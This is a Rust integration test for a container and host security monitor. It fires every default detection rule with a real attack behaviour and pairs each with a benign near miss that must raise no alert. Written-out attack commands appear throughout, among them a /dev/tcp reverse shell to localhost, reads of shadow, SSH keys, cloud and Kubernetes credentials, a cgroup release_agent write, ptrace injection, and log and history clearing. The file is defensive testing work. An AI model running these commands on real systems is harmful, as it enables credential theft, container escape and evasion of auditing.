//! The default ruleset's own attack corpus, end to end: one daemon with `rules/`, the
//! real kernel and real containers. Every default rule is fired by a real behaviour
//! in a container, and on the node itself where the rule watches the node; every
//! behaviour has a benign near miss that must raise nothing at all.
//!
//! Attribution: container behaviours run in an `attack` container and their near
//! misses in a `benign` one (which must end with no alert); behaviours on the node
//! are processes this test starts, recognised by their pid (`proc.pid` is in the
//! output of every rule that watches the node). The near misses run first, so once
//! every attack's alert is in, the daemon has judged them too.
mod support;

use std::{
    collections::{BTreeMap, BTreeSet},
    os::unix::net::UnixListener,
    path::PathBuf,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use serde_json::Value;
use support::{
    Monitor, attack,
    docker::{self, Cleanup, IMAGE, docker},
    netns::{self, Netns},
    serial,
};

const DEFAULT_RULES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../rules");

/// An image name outside the allowed registries (the test image, tagged again).
const FOREIGN_IMAGE: &str = "registry.example.com/tools/busybox:v2";

fn unique(name: &str) -> String {
    format!("monitor-corpus-{name}-{}", std::process::id())
}

/// The rules of the default ruleset, read from its files.
fn default_rules() -> BTreeSet<String> {
    let mut rules = BTreeSet::new();
    for entry in std::fs::read_dir(DEFAULT_RULES).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        // The resource and profile rules need limits and learning windows of their
        // own: tests/anomalies.rs performs them.
        if !name.ends_with(".yaml") || name.ends_with(".fixtures.yaml") || name == "anomalies.yaml"
        {
            continue;
        }
        for line in std::fs::read_to_string(&path).unwrap().lines() {
            if let Some(rule) = line.strip_prefix("- rule: ") {
                rules.insert(rule.trim().to_string());
            }
        }
    }
    rules
}

/// A folder of the test's own for the node's behaviours: outside the temporary
/// directories, so that only the temporary-directory case runs from one.
struct Workdir(PathBuf);

impl Workdir {
    fn create() -> Workdir {
        let dir = PathBuf::from(format!("/opt/monitor-corpus-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("bin")).unwrap();
        std::fs::create_dir_all(dir.join("home/.ssh")).unwrap();
        std::fs::create_dir_all(dir.join("hostetc")).unwrap();
        std::fs::write(dir.join("home/.ssh/id_rsa"), "not a real key\n").unwrap();
        std::fs::write(dir.join("home/notes.txt"), "TODO\n").unwrap();
        std::fs::write(dir.join("hostetc/hostname"), "node\n").unwrap();
        std::fs::write(dir.join("junk.ko"), "not a module\n").unwrap();
        Workdir(dir)
    }

    fn path(&self, rel: &str) -> String {
        self.0.join(rel).to_string_lossy().to_string()
    }

    /// The attack tool under `name` in the folder's bin.
    fn tool(&self, name: &str) -> String {
        let path = self.0.join("bin").join(name);
        if !path.exists() {
            std::fs::copy(attack::tool(), &path).unwrap();
        }
        path.to_string_lossy().to_string()
    }
}

impl Drop for Workdir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// Files the node's behaviours leave outside the work folder.
struct Leftovers(Vec<PathBuf>);

impl Drop for Leftovers {
    fn drop(&mut self) {
        for path in &self.0 {
            let _ = std::fs::remove_file(path);
        }
    }
}

/// Removes an image name the test added.
struct Untag(&'static str);

impl Drop for Untag {
    fn drop(&mut self) {
        let _ = Command::new("docker")
            .args(["rmi", self.0])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
}

/// Runs a program on the node and returns its pid once it has ended.
fn on_node(argv: &[&str]) -> u32 {
    let mut child = Command::new(argv[0])
        .args(&argv[1..])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| panic!("{argv:?}: {e}"));
    let pid = child.id();
    child.wait().unwrap();
    pid
}

/// `docker exec CONTAINER ARGV...` as the image's user (root in the test image); the
/// behaviour may fail (a refused module load).
fn in_container(container: &str, argv: &[&str]) {
    in_container_as("root", container, argv);
}

/// `docker exec -u USER CONTAINER ARGV...`.
fn in_container_as(user: &str, container: &str, argv: &[&str]) {
    let _ = Command::new("docker")
        .args(["exec", "-u", user, container])
        .args(argv)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
}

fn sh(container: &str, script: &str) {
    in_container(container, &["sh", "-c", script]);
}

/// What a rule's attack must raise: the rule in the attack container, or the rule
/// for a process of the node.
enum Expect {
    Container(&'static str),
    Node(&'static str, u32),
}

impl Expect {
    fn rule(&self) -> &'static str {
        match self {
            Expect::Container(rule) | Expect::Node(rule, _) => rule,
        }
    }
}

fn pid_of(alert: &Value) -> Option<u64> {
    alert["output_fields"]["proc.pid"].as_u64()
}

/// Busybox applets the behaviours run as programs of their own, and the files they
/// work on.
fn prepare(container: &str) {
    // A service account, as most images have one: copied in by dockerd (a write of
    // /etc/passwd from inside would be an attack of its own).
    let passwd = std::env::temp_dir().join(format!("passwd-{}", std::process::id()));
    std::fs::write(
        &passwd,
        "root:x:0:0:root:/root:/bin/sh\nappuser:x:4242:4242:app:/tmp:/bin/sh\n\
         www-data:x:33:33:www-data:/var/www:/bin/false\n",
    )
    .unwrap();
    docker(&[
        "cp",
        passwd.to_str().unwrap(),
        &format!("{container}:/etc/passwd"),
    ]);
    let _ = std::fs::remove_file(&passwd);
    sh(
        container,
        "for a in find grep mount ln shred rm mkdir cp chmod; do busybox ln -sf busybox /bin/$a; done; \
         mkdir -p /opt/tools /root/.ssh /root/.aws /var/log /tmp/cg /usr/local/bin \
         /usr/local/share /var/run/secrets/kubernetes.io/serviceaccount \
         /var/spool/cron/crontabs; echo ls > /root/.bash_history; \
         echo key > /root/.ssh/id_rsa; echo '[default]' > /root/.aws/config; \
         echo secret > /root/.aws/credentials; echo token > \
         /var/run/secrets/kubernetes.io/serviceaccount/token; echo default > \
         /var/run/secrets/kubernetes.io/serviceaccount/namespace; \
         echo line >> /var/log/app.log; echo x >> /tmp/scratch",
    );
    // Copied in by dockerd: writing it from inside is an attack of its own.
    let release_agent = std::env::temp_dir().join(format!("release_agent-{}", std::process::id()));
    std::fs::write(&release_agent, "").unwrap();
    docker(&[
        "cp",
        release_agent.to_str().unwrap(),
        &format!("{container}:/tmp/cg/release_agent"),
    ]);
    let _ = std::fs::remove_file(&release_agent);
    let tool = attack::tool().to_str().unwrap().to_string();
    for name in [
        "attack",
        "nginx",
        "cron",
        "apt-get",
        "pip",
        "xmrig",
        "xmr-report",
        "passwd",
        "nsenter",
        "unshare",
        "ssh",
        "ss",
        "logrotate",
        "strace",
        "iptables",
        "crontab",
        "scp",
        "rsync",
        "login",
    ] {
        docker(&["cp", &tool, &format!("{container}:/opt/tools/{name}")]);
    }
}

#[test]
fn every_default_rule_fires_on_its_attack_and_not_on_its_near_miss() {
    let _serial = serial();
    docker::ensure_image();
    let work = Workdir::create();
    let pid = std::process::id();
    let mut leftovers = Leftovers(Vec::new());
    let attacker = unique("attack");
    let benign = unique("benign");
    let foreign = unique("foreign");
    let _cleanup = Cleanup(vec![attacker.clone(), benign.clone(), foreign.clone()]);
    let site = support::site_rules("corpus", "");
    leftovers.0.push(site.clone());
    // The public internet: a namespace of the test's own with listeners.
    let mut net = Netns::create(&unique("ns"));
    // busybox nc takes one connection per listener.
    for port in [22, 80, 443, 2222, 3333, 4444, 8081] {
        net.listen(port);
    }
    // An ordinary unix socket for the benign container's near miss.
    let app_sock = work.path("app.sock");
    let _listener = UnixListener::bind(&app_sock).unwrap();
    docker(&["tag", IMAGE, FOREIGN_IMAGE]);
    let _untag = Untag(FOREIGN_IMAGE);

    let monitor = Monitor::run(&["--rules", DEFAULT_RULES, "--rules", site.to_str().unwrap()]);
    docker(&[
        "run",
        "-d",
        "--name",
        &benign,
        "-v",
        &format!("{app_sock}:/run/app.sock"),
        IMAGE,
        "sleep",
        "300",
    ]);
    prepare(&benign);

    // --- Near misses in a container: nothing here may alert. ---------------------
    let near_misses = std::cell::Cell::new(0);
    let b = |argv: &[&str]| {
        near_misses.set(near_misses.get() + 1);
        in_container(&benign, argv)
    };
    b(&["sh", "-c", "true"]); // a shell without a terminal, started by the runtime
    b(&["/opt/tools/cron", "spawn", "/bin/sh", "-c", "true"]);
    b(&["/opt/tools/pip", "list"]);
    b(&["/opt/tools/ss", "true"]);
    b(&["sh", "-c", "cat /proc/net/tcp > /dev/null"]);
    b(&["/opt/tools/xmr-report", "true"]);
    b(&["sh", "-c", "cd /tmp && ls > /dev/null"]);
    b(&["/opt/tools/ssh", "connect", netns::PEER_IP, "22"]);
    b(&["/opt/tools/attack", "connect", "127.0.0.1", "4444"]);
    b(&["/opt/tools/passwd", "open", "/etc/shadow"]);
    b(&["grep", "-r", "TODO", "/root"]);
    b(&["cat", "/root/.aws/config"]);
    b(&[
        "cat",
        "/var/run/secrets/kubernetes.io/serviceaccount/namespace",
    ]);
    b(&["/opt/tools/attack", "write", "/usr/local/share/notes"]);
    b(&["/opt/tools/attack", "write", "/tmp/etc-copy"]);
    b(&["cat", "/tmp/cg/release_agent"]);
    b(&["cat", "/proc/sys/kernel/core_pattern"]);
    b(&["cat", "/etc/hostname"]);
    b(&["/opt/tools/unshare", "true"]);
    b(&["cat", "/proc/mounts"]);
    b(&["/opt/tools/attack", "connect-unix", "/run/app.sock"]);
    // A debugger's child asks to be traced under the debugger's name.
    b(&["/opt/tools/strace", "traceme"]);
    b(&["cat", "/proc/modules"]);
    b(&["/opt/tools/attack", "memfd-create"]);
    b(&["find", "/root", "-name", "*.txt"]);
    b(&["ln", "-s", "/etc/hostname", "/tmp/ok-link"]);
    b(&["/opt/tools/attack", "append", "/var/log/app.log"]);
    b(&["/opt/tools/logrotate", "write", "/var/log/app.log"]);
    b(&["rm", "/tmp/scratch"]);
    // Not the last command: the shell forks for it rather than exec it.
    b(&["sh", "-c", "cat /tmp/../../etc/passwd > /dev/null; true"]);
    b(&["/opt/tools/nginx", "open", "/etc/../etc/hostname"]);
    b(&["grep", "region", "/root/.aws/config"]);
    b(&["chmod", "644", "/var/log/app.log"]);
    b(&["cat", "/proc/self/mem"]);
    b(&["/opt/tools/crontab", "-l"]);
    b(&["cat", "/etc/ld.so.preload"]);
    b(&["/opt/tools/attack", "append", "/root/.bash_history"]);
    b(&["cat", "/proc/sys/kernel/randomize_va_space"]);
    b(&["/opt/tools/iptables", "-L", "-n"]);
    b(&["cat", "/proc/self/environ"]);
    b(&[
        "/opt/tools/rsync",
        "-a",
        "/etc/hostname",
        "/tmp/hostname-copy",
    ]);
    b(&["/opt/tools/attack", "append", "/root/.bashrc.bak"]);
    // A service account running a program, outside any session.
    near_misses.set(near_misses.get() + 1);
    in_container_as("www-data", &benign, &["/opt/tools/attack", "true"]);

    // --- Near misses on the node: nothing with these pids may alert. -------------
    let benign_log = format!("/var/log/monitor-corpus-{pid}.log");
    let benign_etc = format!("/etc/cron.d/monitor-corpus-{pid}-package");
    leftovers.0.push(benign_log.clone().into());
    leftovers.0.push(benign_etc.clone().into());
    let scratch = work.path("scratch");
    std::fs::write(&scratch, "x").unwrap();
    let attack_tool = work.tool("attack");
    let node_benign = vec![
        on_node(&[&work.tool("passwd"), "open", "/etc/shadow"]),
        on_node(&[&work.tool("grep"), "open", &work.path("home/.ssh/id_rsa")]),
        on_node(&[&work.tool("dpkg"), "write", &benign_etc]),
        on_node(&[&work.tool("strace"), "traceme"]),
        on_node(&["cat", "/proc/modules"]),
        on_node(&[&attack_tool, "memfd-create"]),
        on_node(&["find", &work.path("home"), "-name", "*.txt"]),
        on_node(&["ln", "-s", "/etc/hostname", &work.path("ok-link")]),
        on_node(&[&attack_tool, "append", &benign_log]),
        on_node(&[&work.tool("logrotate"), "write", &benign_log]),
        on_node(&["rm", &scratch]),
        on_node(&[&work.tool("xmr-report"), "true"]),
        on_node(&["sh", "-c", "echo hello > /dev/null"]),
        on_node(&[&attack_tool, "connect", "127.0.0.1", "4444"]),
        on_node(&[&attack_tool, "write", &work.path("share-notes")]),
        on_node(&[&work.tool("nginx"), "open", "/etc/../etc/hostname"]),
        on_node(&[&work.tool("ssh"), "connect", netns::PEER_IP, "2222"]),
        on_node(&["grep", "-r", "region", &work.path("home")]),
        on_node(&["chmod", "644", &work.path("home/notes.txt")]),
        on_node(&["cat", "/proc/self/mem"]),
        on_node(&[&attack_tool, "append", &work.path("home/.bash_history")]),
        on_node(&["cat", "/proc/sys/kernel/randomize_va_space"]),
        on_node(&[&work.tool("auditctl"), "-l"]),
        on_node(&["cat", "/proc/self/environ"]),
        on_node(&[
            "setpriv",
            "--reuid=nobody",
            "--regid=nogroup",
            "--clear-groups",
            &attack_tool,
            "true",
        ]),
    ];

    // --- Attacks in a container. ---------------------------------------------------
    // Started with the Docker socket mounted: a container with host privileges.
    docker(&[
        "run",
        "-d",
        "--name",
        &attacker,
        "--cap-add",
        "SYS_PTRACE",
        // Docker's seccomp profile refuses module loads before the kernel sees them
        // unless the container may load modules.
        "--cap-add",
        "SYS_MODULE",
        "--security-opt",
        "systempaths=unconfined",
        "-v",
        "/var/run/docker.sock:/var/run/docker.sock",
        "-v",
        &format!("{}:/host/etc:ro", work.path("hostetc")),
        IMAGE,
        "sleep",
        "300",
    ]);
    prepare(&attacker);
    let attacker_prepared = Instant::now();
    let a = |argv: &[&str]| in_container(&attacker, argv);
    let mut expected = vec![Expect::Container("Container started with host privileges")];
    docker::exec_in_terminal(&attacker, "true");
    expected.push(Expect::Container("Interactive shell in container"));
    a(&["/opt/tools/nginx", "spawn", "/bin/sh", "-c", "true"]);
    expected.push(Expect::Container(
        "Shell spawned by a non-shell program in container",
    ));
    a(&["/opt/tools/apt-get", "true"]);
    expected.push(Expect::Container("Package manager run in container"));
    a(&["nc", "-w", "1", "127.0.0.1", "9"]);
    expected.push(Expect::Container("Network tool run in container"));
    a(&["sh", "-c", "sh -i >& /dev/tcp/127.0.0.1/9 0>&1"]);
    expected.push(Expect::Container("Reverse shell"));
    a(&["/opt/tools/xmrig", "true"]);
    expected.push(Expect::Container("Crypto miner started"));
    a(&[
        "sh",
        "-c",
        "cp /opt/tools/attack /tmp/dropper && /tmp/dropper true",
    ]);
    expected.push(Expect::Container("Execution from a temporary directory"));
    a(&["/opt/tools/attack", "connect", netns::PEER_IP, "8081"]);
    expected.push(Expect::Container(
        "Unexpected outbound connection from container",
    ));
    a(&["/opt/tools/attack", "connect", netns::PEER_IP, "4444"]);
    expected.push(Expect::Container("Connection to a mining pool port"));
    a(&["cat", "/etc/shadow"]);
    expected.push(Expect::Container("Password database read in container"));
    a(&["cat", "/root/.ssh/id_rsa"]);
    expected.push(Expect::Container("SSH key read in container"));
    a(&["cat", "/root/.aws/credentials"]);
    expected.push(Expect::Container("Cloud credentials read in container"));
    a(&["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]);
    expected.push(Expect::Container(
        "Kubernetes credentials read in container",
    ));
    a(&["/opt/tools/attack", "write", "/usr/local/bin/implant"]);
    expected.push(Expect::Container("Write below binary directory"));
    a(&["/opt/tools/attack", "append", "/etc/motd"]);
    expected.push(Expect::Container("Write below etc in container"));
    a(&["/opt/tools/attack", "write", "/tmp/cg/release_agent"]);
    expected.push(Expect::Container(
        "Cgroup release_agent written in container",
    ));
    // Opened for writing, nothing written: the host's core_pattern stays as it is.
    a(&[
        "/opt/tools/attack",
        "open-write",
        "/proc/sys/kernel/core_pattern",
    ]);
    expected.push(Expect::Container(
        "Kernel helper interface written from container",
    ));
    a(&["cat", "/host/etc/hostname"]);
    expected.push(Expect::Container("Host filesystem accessed from container"));
    a(&["/opt/tools/nsenter", "true"]);
    expected.push(Expect::Container("Namespace tool run in container"));
    a(&["mount"]);
    expected.push(Expect::Container("Mount tool run in container"));
    a(&["/opt/tools/attack", "connect-unix", "/var/run/docker.sock"]);
    expected.push(Expect::Container(
        "Container runtime socket accessed from container",
    ));
    a(&[
        "sh",
        "-c",
        "sleep 30 & /opt/tools/attack ptrace-attach $!; kill $!",
    ]);
    expected.push(Expect::Container("Process injection with ptrace"));
    a(&["/opt/tools/attack", "load-module", "/etc/hostname"]);
    expected.push(Expect::Container("Kernel module load attempted"));
    a(&[
        "/opt/tools/attack",
        "memfd-exec",
        "/opt/tools/attack",
        "true",
    ]);
    expected.push(Expect::Container("Fileless execution from memory"));
    a(&["find", "/root", "-name", "id_rsa"]);
    expected.push(Expect::Container("SSH private key search"));
    a(&["ln", "-s", "/etc/shadow", "/tmp/shadow-link"]);
    expected.push(Expect::Container("Link to a sensitive file"));
    a(&["/opt/tools/attack", "write", "/var/log/app.log"]);
    expected.push(Expect::Container("Log files cleared or removed"));
    a(&["shred", "-u", "/root/.aws/credentials"]);
    expected.push(Expect::Container("Secure deletion tool run"));
    a(&["/opt/tools/nginx", "open", "/tmp/../../etc/passwd"]);
    expected.push(Expect::Container(
        "Sensitive file read through a directory traversal",
    ));
    a(&["grep", "-r", "aws_secret_access_key", "/root"]);
    expected.push(Expect::Container("Cloud credentials search"));
    a(&["/opt/tools/ssh", "connect", netns::PEER_IP, "443"]);
    expected.push(Expect::Container("SSH connection to a disguised port"));
    a(&["/opt/tools/attack", "traceme"]);
    expected.push(Expect::Container("Anti-debugging with ptrace"));
    a(&["sh", "-c", "cp /bin/busybox /tmp/.sh && chmod u+s /tmp/.sh"]);
    expected.push(Expect::Container("Setuid or setgid bit set on a file"));
    a(&["/opt/tools/attack", "child-mem"]);
    expected.push(Expect::Container("Process memory accessed through proc"));
    a(&[
        "/opt/tools/attack",
        "write",
        "/var/spool/cron/crontabs/root",
    ]);
    expected.push(Expect::Container("Scheduled task created in container"));
    a(&["/opt/tools/attack", "append", "/etc/ld.so.preload"]);
    expected.push(Expect::Container("Dynamic linker preload configured"));
    a(&["rm", "-f", "/root/.bash_history"]);
    expected.push(Expect::Container("Shell history cleared"));
    a(&["/opt/tools/iptables", "-F"]);
    expected.push(Expect::Container("Audit or firewall rules cleared"));
    a(&["cat", "/proc/1/environ"]);
    expected.push(Expect::Container("Process environment read through proc"));
    // The tool only starts: nothing is copied, no connection is made.
    let remote = format!("ops@{}:/tmp/", netns::PEER_IP);
    a(&["/opt/tools/scp", "/etc/hostname", &remote]);
    expected.push(Expect::Container("Remote file copy tool run in container"));
    a(&["/opt/tools/attack", "append", "/root/.bashrc"]);
    expected.push(Expect::Container(
        "Shell configuration modified in container",
    ));

    // The agent looks a uid missing from a container's passwd up again after 5 s: the
    // service account was copied in after the container's first process was named.
    std::thread::sleep(Duration::from_millis(
        5500u64.saturating_sub(attacker_prepared.elapsed().as_millis() as u64),
    ));
    // A session lasts: the agent reads the account's name through the process's root,
    // so a process gone before its exec is judged would leave it unnamed.
    in_container_as("www-data", &attacker, &["/opt/tools/login", "sleep", "2"]);
    expected.push(Expect::Container("Interactive session as a system user"));

    // Five `docker exec` commands in a container of a disallowed registry: one alert.
    docker(&[
        "run",
        "-d",
        "--name",
        &foreign,
        FOREIGN_IMAGE,
        "sleep",
        "300",
    ]);
    for _ in 0..5 {
        in_container(&foreign, &["ls", "/"]);
    }

    // --- Attacks on the node. -------------------------------------------------------
    let attack_log = format!("/var/log/monitor-corpus-{pid}-attack.log");
    let attack_etc = format!("/etc/cron.d/monitor-corpus-{pid}");
    let implant = format!("/usr/local/bin/monitor-corpus-{pid}");
    let dropper = format!("/tmp/monitor-corpus-dropper-{pid}");
    std::fs::copy(attack::tool(), &dropper).unwrap();
    for path in [&attack_log, &attack_etc, &implant, &dropper] {
        leftovers.0.push(path.into());
    }
    let secret = work.path("secret");
    std::fs::write(&secret, "x").unwrap();
    let suid_copy = work.path("suid-copy");
    std::fs::write(&suid_copy, "x").unwrap();
    std::fs::write(work.path("home/.zsh_history"), "ls\n").unwrap();
    // An empty preload file preloads nothing; the attack opens it for writing and
    // writes nothing. One the node already has is left as it is.
    let preload = std::path::Path::new("/etc/ld.so.preload");
    if !preload.exists() {
        std::fs::write(preload, "").unwrap();
        leftovers.0.push(preload.into());
    }
    let mut sleeper = Command::new("sleep").arg("30").spawn().unwrap();
    let node = |rule, argv: &[&str]| Expect::Node(rule, on_node(argv));
    expected.extend([
        node(
            "Sensitive file read on host",
            &[&attack_tool, "open", "/etc/shadow"],
        ),
        node(
            "SSH private key read on host",
            &[&attack_tool, "open", &work.path("home/.ssh/id_rsa")],
        ),
        node(
            "Write below etc on host",
            &[&attack_tool, "write", &attack_etc],
        ),
        node(
            "Process injection with ptrace",
            &[&attack_tool, "ptrace-attach", &sleeper.id().to_string()],
        ),
        node(
            "Kernel module load attempted",
            &[&attack_tool, "load-module", &work.path("junk.ko")],
        ),
        node(
            "Fileless execution from memory",
            &[&attack_tool, "memfd-exec", "/bin/true"],
        ),
        node(
            "SSH private key search",
            &["find", &work.path("home"), "-name", "id_rsa"],
        ),
        node(
            "Link to a sensitive file",
            &["ln", "-s", "/etc/sudoers", &work.path("sudoers-link")],
        ),
        node(
            "Log files cleared or removed",
            &[&attack_tool, "write", &attack_log],
        ),
        node("Secure deletion tool run", &["shred", "-u", &secret]),
        node(
            "Reverse shell",
            &["sh", "-c", "true sh -i >& /dev/tcp/127.0.0.1/9 0>&1"],
        ),
        node("Crypto miner started", &[&work.tool("xmrig"), "true"]),
        node("Execution from a temporary directory", &[&dropper, "true"]),
        node(
            "Connection to a mining pool port",
            &[&attack_tool, "connect", netns::PEER_IP, "3333"],
        ),
        node(
            "Write below binary directory",
            &[&attack_tool, "write", &implant],
        ),
        node(
            "Sensitive file read through a directory traversal",
            &[&work.tool("nginx"), "open", "/tmp/../../etc/hostname"],
        ),
        node(
            "Cloud credentials search",
            &["find", &work.path("home"), "-path", "*/.aws/credentials"],
        ),
        node(
            "SSH connection to a disguised port",
            &[&work.tool("ssh"), "connect", netns::PEER_IP, "80"],
        ),
        node("Anti-debugging with ptrace", &[&attack_tool, "traceme"]),
        node(
            "Setuid or setgid bit set on a file",
            &["chmod", "u+s", &suid_copy],
        ),
        node(
            "Process memory accessed through proc",
            &[&attack_tool, "child-mem"],
        ),
        node(
            "Shell history cleared",
            &["rm", "-f", &work.path("home/.zsh_history")],
        ),
        // Opened for writing, nothing written: the node's setting stays as it is.
        node(
            "Kernel ASLR setting changed",
            &[
                &attack_tool,
                "open-write",
                "/proc/sys/kernel/randomize_va_space",
            ],
        ),
        node(
            "Audit or firewall rules cleared",
            &[&work.tool("auditctl"), "-D"],
        ),
        node(
            "Dynamic linker preload configured",
            &[&attack_tool, "open-write", "/etc/ld.so.preload"],
        ),
        node(
            "Process environment read through proc",
            &["cat", &format!("/proc/{}/environ", sleeper.id())],
        ),
        // setpriv runs the tool in its own process: the alert's pid is this one.
        node(
            "Interactive session as a system user",
            &[
                "setpriv",
                "--reuid=nobody",
                "--regid=nogroup",
                "--clear-groups",
                &work.tool("login"),
                "true",
            ],
        ),
    ]);
    let _ = sleeper.kill();
    let _ = sleeper.wait();

    // --- Every attack raised its rule. ----------------------------------------------
    let deadline = Instant::now() + Duration::from_secs(30);
    let found = |alerts: &[Value], e: &Expect| {
        alerts.iter().any(|a| {
            a["rule"] == e.rule()
                && match e {
                    Expect::Container(_) => {
                        a["output_fields"]["container.name"] == attacker.as_str()
                    }
                    Expect::Node(_, pid) => pid_of(a) == Some(u64::from(*pid)),
                }
        })
    };
    loop {
        let alerts = monitor.events();
        let missing: Vec<&Expect> = expected.iter().filter(|e| !found(&alerts, e)).collect();
        if missing.is_empty() {
            break;
        }
        if Instant::now() > deadline {
            let names: Vec<String> = missing
                .iter()
                .map(|e| match e {
                    Expect::Container(rule) => format!("{rule} (container)"),
                    Expect::Node(rule, pid) => format!("{rule} (node, pid {pid})"),
                })
                .collect();
            panic!("attacks without their alert: {names:#?}\nalerts: {alerts:#?}");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    // The foreign container's alert is judged at its start, which is long done.
    let alerts = monitor.events();
    let registry: Vec<&Value> = alerts
        .iter()
        .filter(|a| {
            a["rule"] == "Container image from a disallowed registry"
                && a["output_fields"]["container.name"] == foreign.as_str()
        })
        .collect();
    assert_eq!(
        registry.len(),
        1,
        "start plus five docker exec: {registry:#?}"
    );
    assert_eq!(
        registry[0]["output_fields"]["container.image.repository"],
        "registry.example.com/tools/busybox"
    );

    // --- Near misses raised nothing. ------------------------------------------------
    let benign_alerts: Vec<&Value> = alerts
        .iter()
        .filter(|a| {
            a["output_fields"]["container.name"] == benign.as_str()
                || pid_of(a).is_some_and(|p| node_benign.iter().any(|b| u64::from(*b) == p))
        })
        .collect();
    assert!(
        benign_alerts.is_empty(),
        "near misses raised alerts: {benign_alerts:#?}"
    );

    // --- The corpus covers the whole default ruleset. ------------------------------
    let mut covered: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    for e in &expected {
        let entry = covered.entry(e.rule()).or_default();
        match e {
            Expect::Container(_) => entry.0 += 1,
            Expect::Node(..) => entry.1 += 1,
        }
    }
    covered.insert("Container image from a disallowed registry", (1, 0));
    let rules = default_rules();
    let uncovered: Vec<&String> = rules
        .iter()
        .filter(|r| !covered.contains_key(r.as_str()))
        .collect();
    assert!(uncovered.is_empty(), "rules no attack fires: {uncovered:?}");
    let tagged_host: Vec<&String> = rules
        .iter()
        .filter(|r| covered[r.as_str()].1 == 0 && rule_watches_node(r))
        .collect();
    assert!(
        tagged_host.is_empty(),
        "rules of the node no attack on the node fires: {tagged_host:?}"
    );
    eprintln!(
        "attack corpus: {} attacks ({} in containers, {} on the node) over {} rules, all detected; {} near misses silent",
        expected.len() + 1,
        expected
            .iter()
            .filter(|e| matches!(e, Expect::Container(_)))
            .count()
            + 1,
        expected
            .iter()
            .filter(|e| matches!(e, Expect::Node(..)))
            .count(),
        rules.len(),
        node_benign.len() + near_misses.get(),
    );
}

/// The rule's tags say `host` (read from the rule files).
fn rule_watches_node(rule: &str) -> bool {
    for entry in std::fs::read_dir(DEFAULT_RULES).unwrap() {
        let path = entry.unwrap().path();
        if !path.to_string_lossy().ends_with(".yaml") {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap();
        if let Some(at) = text.find(&format!("- rule: {rule}\n")) {
            let block = &text[at..];
            let end = block[1..].find("\n- ").map_or(block.len(), |e| e + 1);
            return block[..end]
                .lines()
                .any(|l| l.trim_start().starts_with("tags:") && l.contains("host"));
        }
    }
    false
}
